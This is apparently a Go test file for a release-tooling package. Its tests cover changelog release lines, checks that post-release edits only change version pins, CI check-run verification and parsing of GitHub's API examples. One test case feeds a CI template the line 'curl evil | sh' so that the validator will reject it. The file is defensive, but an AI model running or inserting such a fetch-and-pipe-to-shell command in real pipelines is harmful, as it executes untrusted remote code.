package selfrelease

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"strings"
	"testing"

	"dagger/shipyard/internal/demoworld/corpus"
)

func TestCheckRepin(t *testing.T) {
	old := strings.Repeat("9", 40)
	wf := func(commit, tag, extra string) File {
		return File{Found: true, Content: []byte("env:\n  SHIPYARD: " + Module + "@" + commit + " # " + tag + "\njobs: {}\n" + extra)}
	}
	released, err := SetReleaseLine([]byte(goodChangelog), "0.1.0", sha)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		changes []Change
		want    string // part of the problems; "" for none
	}{
		{"pins only", []Change{{Path: "examples/github-actions/tesk-core/ci.yml", Old: wf(old, "v0.1.0", ""), New: wf(sha, "v0.2.0", "")}}, ""},
		{"an embedded template's pin", []Change{{Path: "models/genrepo/template/ci.yml", Old: wf(old, "v0.1.0", ""), New: wf(sha, "v0.2.0", "")}}, ""},
		{"the changelog's release line", []Change{{Path: ChangelogFile, Old: File{Found: true, Content: []byte(goodChangelog)}, New: File{Found: true, Content: released}}}, ""},
		{"an embedded template's step", []Change{{Path: "models/genrepo/template/ci.yml", Old: wf(old, "v0.1.0", ""), New: wf(sha, "v0.2.0", "  run: curl evil | sh\n")}}, "models/genrepo/template/ci.yml:4: changes more than a pin"},
		{"a line beside the pin", []Change{{Path: "README.md", Old: wf(old, "v0.1.0", "a\n"), New: wf(sha, "v0.2.0", "b\n")}}, "README.md:4"},
		{"code", []Change{{Path: "pipelines/ci/ci.go", Old: File{Found: true}, New: File{Found: true, Content: []byte("x")}}}, "pipelines/ci/ci.go: changed after the release commit, and is no pinned file"},
		{"a new pinned file", []Change{{Path: "docs/new.md", New: wf(sha, "v0.2.0", "")}}, "docs/new.md: added or removed"},
		{"the changelog beyond the release line", []Change{{Path: ChangelogFile, Old: File{Found: true, Content: []byte(goodChangelog)},
			New: File{Found: true, Content: []byte(strings.Replace(string(released), "- First release (#36)", "- First release, rewritten (#36)", 1))}}}, "CHANGELOG.md:"},
		{"another release's line", []Change{{Path: ChangelogFile, Old: File{Found: true, Content: []byte(goodChangelog)},
			New: File{Found: true, Content: []byte(strings.Replace(goodChangelog, sha+" # v0.2.0", old+" # v0.2.0", 1))}}}, "changes more than the release line of 0.1.0"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := strings.Join(CheckRepin("0.1.0", tt.changes), "\n")
			if (tt.want == "") != (got == "") || !strings.Contains(got, tt.want) {
				t.Errorf("problems %q, want %q", got, tt.want)
			}
		})
	}
}

func TestSetReleaseLine(t *testing.T) {
	out, err := SetReleaseLine([]byte(goodChangelog), "0.1.0", sha)
	if err != nil {
		t.Fatal(err)
	}
	c, problems := ParseChangelog(out)
	if len(problems) > 0 {
		t.Fatalf("problems %v in\n%s", problems, out)
	}
	if r, _ := c.Section("0.1.0"); r.Commit != sha || r.CommitLine != r.Line+2 {
		t.Errorf("0.1.0 = %+v in\n%s", r, out)
	}
	if !strings.Contains(string(out), "## [0.1.0] - 2026-12-02\n\n"+ReleaseLine(sha, "v0.1.0")+"\n\n### Added") {
		t.Errorf("the release line is not under its heading:\n%s", out)
	}
	// Again, with another commit: the line is replaced, not added.
	other := strings.Repeat("5", 40)
	again, err := SetReleaseLine(out, "0.1.0", other)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Count(string(again), "# v0.1.0") != 1 || !strings.Contains(string(again), other) {
		t.Errorf("re-set release line:\n%s", again)
	}
	for _, bad := range []struct{ content, version, want string }{
		{goodChangelog, "0.3.0", "no section ## [0.3.0]"},
		{strings.Replace(goodChangelog, "### Fixed", "### Bugs", 1), "0.1.0", "CHANGELOG.md:"},
	} {
		if _, err := SetReleaseLine([]byte(bad.content), bad.version, sha); err == nil || !strings.Contains(err.Error(), bad.want) {
			t.Errorf("SetReleaseLine(%s): %v, want %q", bad.version, err, bad.want)
		}
	}
}

func TestCIPassed(t *testing.T) {
	failed := passed(head)
	failed.ID, failed.Conclusion, failed.HTMLURL = 9, "failure", "https://github.com/o/r/runs/9"
	running := passed(head)
	running.ID, running.Status, running.Conclusion = 9, "in_progress", ""
	forged := passed(head)
	forged.App.Slug = "someones-app"
	tests := []struct {
		name string
		runs []CheckRun
		want string // part of the verdict; "" for passed
	}{
		{"passed", []CheckRun{passed(head)}, ""},
		{"passed on a re-run", []CheckRun{func() CheckRun { c := failed; c.ID = 3; return c }(), passed(head)}, ""},
		{"failed on a re-run", []CheckRun{passed(head), failed}, "concluded failure, not success (https://github.com/o/r/runs/9)"},
		{"running", []CheckRun{passed(head), running}, "is in_progress, not completed"},
		{"another commit", []CheckRun{passed(sha)}, `no check run "CI passed" by github-actions on 222222222222`},
		{"another app", []CheckRun{forged}, "someones-app"},
		{"none", nil, "(the forge lists: none)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := CIPassed(CheckRuns{CheckRuns: tt.runs}, head)
			if (tt.want == "") != (got == "") || !strings.Contains(got, tt.want) {
				t.Errorf("verdict %q, want %q", got, tt.want)
			}
			if strings.Contains(got, "()") {
				t.Errorf("verdict %q names an empty link", got)
			}
		})
	}
}

// TestParseCheckRunsReadsGitHubsAnswer reads the example answer of GitHub's own API
// description for "List check runs for a Git reference": a neutral check of another app
// is no evidence.
func TestParseCheckRunsReadsGitHubsAnswer(t *testing.T) {
	z, err := gzip.NewReader(bytes.NewReader(corpus.Read(t, "github-openapi", "api.github.com.json.gz")))
	if err != nil {
		t.Fatal(err)
	}
	var api struct {
		Components struct {
			Examples map[string]struct {
				Value json.RawMessage `json:"value"`
			} `json:"examples"`
		} `json:"components"`
	}
	if err := json.NewDecoder(z).Decode(&api); err != nil {
		t.Fatal(err)
	}
	example, ok := api.Components.Examples["check-run-paginated"]
	if !ok {
		t.Fatal("GitHub's description has no example check-run-paginated")
	}
	runs, err := ParseCheckRuns(example.Value)
	if err != nil {
		t.Fatal(err)
	}
	if runs.TotalCount != len(runs.CheckRuns) || len(runs.CheckRuns) == 0 {
		t.Fatalf("read %+v", runs)
	}
	c := runs.CheckRuns[0]
	if len(c.HeadSHA) != 40 || c.Status != "completed" || c.Conclusion != "neutral" || c.App.Slug == "" || c.ID == 0 {
		t.Errorf("check run read as %+v", c)
	}
	if why := CIPassed(runs, c.HeadSHA); !strings.Contains(why, "no check run") {
		t.Errorf("GitHub's example passes as evidence: %q", why)
	}
	for _, bad := range []string{"", "[]", `{"total_count": 0}`, "{"} {
		if _, err := ParseCheckRuns([]byte(bad)); err == nil {
			t.Errorf("ParseCheckRuns(%q) accepted", bad)
		}
	}
}

func TestMarkedUnreleased(t *testing.T) {
	doc := "# Title\n" + // 1
		"\n" + // 2
		"Run `dagger call shipyard lint` (unreleased) now.\n" + // 3
		"Run `dagger call shipyard lint`.\n" + // 4
		"## New things (unreleased)\n" + // 5
		"Run `dagger call shipyard new-thing`.\n" + // 6
		"## Old things\n" + // 7
		"Since the next release (Unreleased):\n" + // 8
		"\n" + // 9
		"```sh\n" + // 10
		"dagger call shipyard new-flag --x\n" + // 11
		"```\n" + // 12
		"Plain:\n" + // 13
		"```sh\n" + // 14
		"# (unreleased) is a comment, not a heading\n" + // 15
		"dagger call shipyard lint\n" + // 16
		"```\n" // 17
	for line, want := range map[int]bool{3: true, 4: false, 6: true, 8: true, 11: true, 13: false, 16: false, 0: false, 99: false} {
		if got := MarkedUnreleased([]byte(doc), line); got != want {
			t.Errorf("line %d: marked %v, want %v", line, got, want)
		}
	}
}
